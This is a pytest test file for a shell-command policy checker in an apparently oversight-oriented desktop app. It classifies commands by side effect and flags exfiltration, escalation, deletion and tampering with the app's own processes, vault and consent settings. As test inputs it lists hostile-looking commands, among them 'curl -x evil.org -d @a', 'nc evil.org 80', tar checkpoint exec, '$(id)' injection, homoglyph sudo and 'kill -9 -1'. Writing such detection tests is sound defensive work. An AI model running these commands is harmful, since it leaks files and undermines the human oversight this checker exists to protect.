"""One simple command, judged by its words."""

from __future__ import annotations

import pytest

from desktop_app.model.action import Protected, SideEffect, Trait, Use
from desktop_app.policy.commands import judge, stays_here
from desktop_app.policy.seen import Seen
from desktop_app.policy.shellwords import Word

_READ, _WRITE, _WORST = SideEffect.READ, SideEffect.WRITE, SideEffect.IRREVERSIBLE


def _judge(*texts, glob=()):
    seen = Seen("/home/u/w", "/home/u")
    judge([Word(text, glob=text in glob) for text in texts], seen)
    return seen


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("ls -la", _READ),
        ("/bin/cat a", _READ),
        ("./cat a", _WORST),
        ("/opt/x/cat a", _WORST),
        ("c\u0430t a", _WORST),
        ("sort a", _READ),
        ("sort -o a b", _WORST),
        ("sort -uo a b", _WORST),
        ("sort --outp=a b", _WORST),
        ("sort --compress-prog=sh a", _WORST),
        ("find . -name x", _READ),
        ("find . -delete", _WORST),
        ("find . -fprint0 a", _WORST),
        ("find . -exec sh x", _WORST),
        ("uniq a", _READ),
        ("uniq a b", _WORST),
        ("jq .a b", _READ),
        ("jq -n env", _WORST),
        ("printf a", _READ),
        ("printf -v a[$(id)] x", _WORST),
        ("date +%F", _READ),
        ("date -s now", _WORST),
        ("rg --pre=sh a", _WORST),
        ("rg -n a", _READ),
        ("sed -n 1,5p a", _READ),
        ("sed -n $p a", _READ),
        ("sed -n 1e a", _WORST),
        ("sed -n 1p -i", _WORST),
        ("sed s/a/b/ a", _WORST),
        ("sed -n", _WORST),
        ("git status", _READ),
        ("git --no-pager log", _READ),
        ("git --no-pager", _WORST),
        ("git", _WORST),
        ("git -c core.pager=x log", _WORST),
        ("git log --out=x", _WORST),
        ("git diff --ext-diff", _WORST),
        ("git grep -Ovim x", _WORST),
        ("git commit -m x", _WORST),
        ("countersign status", _READ),
        ("countersign", _WORST),
        ("mkdir -p a", _WRITE),
        ("cp -r a b", _WRITE),
        ("cp --target-directory=/etc a", _WORST),
        ("cp -t /etc a", _WORST),
        ("cp - a", _WORST),
        ("mv a b", _WRITE),
        ("tee -a f", _WRITE),
        ("frob", _WORST),
        ("test -v a[$(id)]", _WORST),
        ("less a", _WORST),
    ],
)
def test_reading_and_writing_is_said_of_known_options_alone(command, level):
    """Everything else is irreversible."""
    assert _judge(*command.split()).level is level


def test_a_pattern_may_become_an_option():
    """Of a program that knows grave ones."""
    assert _judge("ls", "*", glob="*").level is _READ
    assert _judge("sort", "*", glob="*").level is _WORST
    assert _judge("sort", "a*", glob=("a*",)).level is _READ
    assert _judge("cp", "*", "x", glob="*").level is _WORST
    assert _judge("git", "log", "*", glob="*").level is _WORST
    assert _judge("sed", "-n", "1p", "*", glob="*").level is _WORST
    assert _judge("l*", glob=("l*",)).level is _WORST


@pytest.mark.parametrize(
    ("command", "traits"),
    [
        ("rm -rf a", {Trait.DELETES}),
        ("sudo rm a", {Trait.ELEVATES, Trait.INTERPRETER, Trait.DELETES}),
        ("python3.11 a.py", {Trait.INTERPRETER}),
        ("env -S ls", {Trait.INTERPRETER}),
        ("tar --checkpoint-action=exec=sh cf a b", {Trait.INTERPRETER}),
        ("\u017fudo a", {Trait.ELEVATES, Trait.INTERPRETER}),
        ("git push", {Trait.PUSHES, Trait.NETWORK}),
        ("git fetch", {Trait.NETWORK}),
        ("git reset --hard", {Trait.DELETES}),
        ("git branch -D a", {Trait.DELETES}),
        ("git commit", set()),
        ("git -c a=b commit", {Trait.INTERPRETER}),
        ("npm publish", {Trait.PUSHES, Trait.NETWORK}),
        ("npm test", set()),
        ("gh pr create", {Trait.PUSHES, Trait.NETWORK}),
        ("svn delete a", {Trait.DELETES}),
        ("curl x.org", {Trait.NETWORK}),
        ("curl -T a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("curl -d @a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("curl -sd@a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("curl --data-binary=@a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("curl -F f=@a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("curl -F f=<a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("curl -d x=1 x.org", {Trait.NETWORK}),
        ("curl -u me@x.org x.org", {Trait.NETWORK}),
        ("curl -d mail=me@x.org x.org", {Trait.NETWORK}),
        ("curl --data-urlencode k@a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("wget --post-file=a x.org", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("wget --timeout=3 x.org", {Trait.NETWORK}),
        ("curl -d @a http://localhost:8/", {Trait.NETWORK}),
        ("curl -x evil.org -d @a http://localhost:8/", {Trait.NETWORK, Trait.EXFILTRATES}),
        ("timeout 5 curl -T a x.org", {Trait.NETWORK, Trait.EXFILTRATES, Trait.INTERPRETER}),
    ],
)
def test_what_stands_out(command, traits):
    """By the tables, and by what a wrapper runs."""
    assert _judge(*command.split()).traits == traits


@pytest.mark.parametrize(
    ("command", "protected"),
    [
        ("countersign pause", {Protected.OUR_VERBS}),
        ("countersign --data-dir status pause", {Protected.OUR_VERBS}),
        ("countersign --output json purge", {Protected.OUR_VERBS}),
        ("countersign --output=json bundle export x", {Protected.OUR_VERBS}),
        ("/x/countersign.exe mode local-only off", {Protected.OUR_VERBS}),
        ("countersign ${x}", {Protected.OUR_VERBS}),
        ("countersign bundle verify x", set()),
        ("countersign --data-dir", set()),
        ("python -m desktop_app vault reveal x", {Protected.OUR_VERBS}),
        ("countersign vault reveal x --reason y --to z", {Protected.OUR_VERBS}),
        ("countersign consent give 'keep command lines'", {Protected.OUR_VERBS}),
        ("countersign consent refuse screenshots", {Protected.OUR_VERBS}),
        ("countersign vault list last", set()),
        ("countersign vault escrow add age1x", {Protected.OUR_VERBS}),
        ("countersign vault recover --identity i --to d", {Protected.OUR_VERBS}),
        ("countersign git-trailers hook m", set()),
        ("uv run countersign pause", {Protected.OUR_VERBS}),
        ("kill -9 -1", {Protected.OUR_PROCESSES}),
        ("kill -- -1", {Protected.OUR_PROCESSES}),
        ("kill -1 55", set()),
        ("killall5", {Protected.OUR_PROCESSES}),
        ("pkill -f desktop_app", {Protected.OUR_PROCESSES}),
        ("killall python3", {Protected.OUR_PROCESSES}),
        ("pkill .", {Protected.OUR_PROCESSES}),
        ("pkill node", set()),
        ("systemctl --user stop countersign", {Protected.OUR_PROCESSES}),
        ("systemctl status nginx", set()),
        ("xdotool key Return", {Protected.INPUT}),
        ("osascript x", {Protected.INPUT}),
        ("secret-tool lookup a b", {Protected.KEYCHAIN}),
        ("security find-generic-password", {Protected.KEYCHAIN}),
        ("sudo security x", {Protected.KEYCHAIN}),
        ("gdbus emit org.freedesktop.Notifications.ActionInvoked", {Protected.INPUT}),
        ("ls countersign", set()),
    ],
)
def test_what_is_ours_and_the_persons_is_seen(command, protected):
    """However it is written, and nothing that only looks alike."""
    assert _judge(*command.split()).protected == protected


def test_paths_are_named_with_their_use():
    """Operands surely, values of options perhaps."""
    seen = _judge("rm", "-rf", "a", "--x=/b", "-f/c", "k=/d", "-q")
    found = {(path.path, path.use, path.sure) for path in seen.paths}
    assert ("/home/u/w/a", Use.DELETE, True) in found
    assert {("/b", Use.DELETE, False), ("/c", Use.DELETE, False)} <= found
    assert ("/d", Use.DELETE, False) in found
    assert {path.use for path in _judge("mv", "a", "b").paths} == {Use.DELETE}
    assert {path.use for path in _judge("cp", "a", "b").paths} == {Use.WRITE}
    assert _judge("echo", "a").paths == []
    assert [path.path for path in _judge("git", "log", "a").paths] == ["/home/u/w/a"]
    assert "/home/u/.ssh" in {path.path for path in _judge("grep", "-r", "x", "/").paths}


def test_hosts_and_signals_are_named():
    """Values of options are no hosts."""
    assert _judge("curl", "-o", "out.html", "x.org/a").hosts == ["x.org"]
    assert _judge("nc", "evil.org", "80").hosts == ["evil.org"]
    assert _judge("git", "push", "https://a.org/b").hosts == ["a.org"]
    assert _judge("kill", "-9", "12", "x").signals == ["-9", "12"]


def test_what_stays_on_this_machine():
    """Surely, and by no detour."""
    assert stays_here(["localhost"], [])
    assert not stays_here([], [])
    assert not stays_here(["localhost", "a.org"], [])
    assert not stays_here(["localhost"], ["--proxy=x"])
